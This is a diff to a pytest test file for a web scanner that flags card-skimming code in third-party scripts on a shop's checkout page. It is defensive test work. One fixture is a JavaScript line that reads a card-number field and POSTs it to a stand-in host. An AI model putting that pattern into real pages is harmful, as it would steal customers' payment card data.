@@ -13,12 +13,17 @@ from pathlib import Path
 
 import pytest
 
-from checks.third_party.skimmers import indicators, skimmer_indicator
-from scanner import Confidence, Found, Passed, Script
-from scanner.testing import page, pages
+from checks.third_party import skimmers
+from checks.third_party.skimmers import indicators
+from scanner import Confidence, Found, LoadedFile, Pages, Passed, Script, Unread, Verdict
+from scanner.testing import loaded_file, loaded_files, page, pages
 
 OWN = "petalandstem.example"
 LIBRARIES = Path(__file__).parent / "node_modules"
+
+
+def skimmer_indicator(shop: Pages, *files: LoadedFile) -> Verdict:
+    return skimmers.skimmer_indicator(shop, loaded_files(*files))
 
 
 def hexadecimal(text: str) -> str:
@@ -158,6 +163,14 @@ def test_popular_libraries_raise_no_alarm(monkeypatch: pytest.MonkeyPatch) -> No
     assert len({path.relative_to(LIBRARIES).parts[0] for path in libraries}) >= 20
 
 
+def test_popular_libraries_on_other_hosts_raise_no_alarm() -> None:
+    for build in popular():
+        text = build.read_text(errors="replace")
+        kept = text[:70_000] + text[-30_000:] if len(text) > 100_000 else text  # as it is kept
+        verdict = skimmer_indicator(with_script(ELSEWHERE), loaded_file(ELSEWHERE, text=kept))
+        assert isinstance(verdict, Passed), f"{build.relative_to(LIBRARIES)}: {verdict}"
+
+
 @pytest.mark.parametrize(
     "nasty",
     [
@@ -174,3 +187,58 @@ def test_hostile_scripts_take_no_time(nasty: str) -> None:
     began = time.monotonic()
     indicators(nasty, OWN)
     assert time.monotonic() - began < 2
+
+
+# ---- scripts of other hosts
+
+ELSEWHERE = "https://cdn.widget-store.example/w.js"
+BEGINNING = "/*! widget */" + "function a(){return 1};" * 3_000
+"""The most of a long ordinary script, which a few lines were put behind."""
+
+
+def with_script(address: str, *others: str) -> Pages:
+    return pages(page("/checkout", scripts=[Script(address)]), page("/roses", scripts=[Script(other) for other in others]))
+
+
+@pytest.mark.parametrize("kind", SKIMMERS)
+def test_skimmers_at_the_end_of_others_scripts(kind: str) -> None:
+    verdict = skimmer_indicator(with_script(ELSEWHERE), loaded_file(ELSEWHERE, text=BEGINNING + SKIMMERS[kind]))
+    assert isinstance(verdict, Found)
+    (finding,) = verdict.findings
+    assert (finding.subject, finding.places) == (ELSEWHERE, ("/checkout",))
+    assert finding.confidence is Confidence.PROBABLE
+
+
+@pytest.mark.parametrize("kind", SNIPPETS)
+def test_ordinary_scripts_of_others(kind: str) -> None:
+    assert isinstance(skimmer_indicator(with_script(ELSEWHERE), loaded_file(ELSEWHERE, text=BEGINNING + SNIPPETS[kind])), Passed)
+
+
+def test_a_script_that_sends_cards_home_may_be_a_payment_providers() -> None:
+    text = "var n=document.getElementById('cc_number').value;fetch('https://api.smallpay.example/charge',{method:'POST',body:n})"
+    address = "https://js.smallpay.example/v1.js"
+    verdict = skimmer_indicator(with_script(address), loaded_file(address, text=text))
+    assert isinstance(verdict, Found)
+    assert verdict.findings[0].confidence is Confidence.POSSIBLE
+    assert "payment provider" in verdict.findings[0].shown
+    known = "https://js.stripe.com/v3/"
+    assert isinstance(skimmer_indicator(with_script(known), loaded_file(known, text=text)), Passed)
+
+
+def test_a_store_that_anybody_can_publish_in_is_no_known_service() -> None:
+    address = "https://cdn.jsdelivr.net/gh/somebody/x@main/a.js"
+    verdict = skimmer_indicator(with_script(address), loaded_file(address, text=SKIMMERS["sends a beacon"]))
+    assert isinstance(verdict, Found)
+    assert verdict.findings[0].confidence is Confidence.PROBABLE
+
+
+@pytest.mark.parametrize(("settled", "examined"), [(True, ("/checkout", "/roses")), (False, ("/roses",))])
+def test_a_script_that_could_not_be_read_this_time_keeps_its_page_unexamined(settled: bool, examined: tuple[str, ...]) -> None:
+    files = loaded_files(unread=[Unread(ELSEWHERE, "It did not answer.", examined=settled)])
+    assert skimmers.skimmer_indicator(with_script(ELSEWHERE), files) == Passed(examined)
+
+
+def test_enough_of_each_kind() -> None:
+    analytics = {"Google Tag Manager", "Google Analytics", "Meta pixel", "Matomo", "Hotjar"}
+    assert analytics <= set(SNIPPETS)
+    assert len(SKIMMERS) >= 12
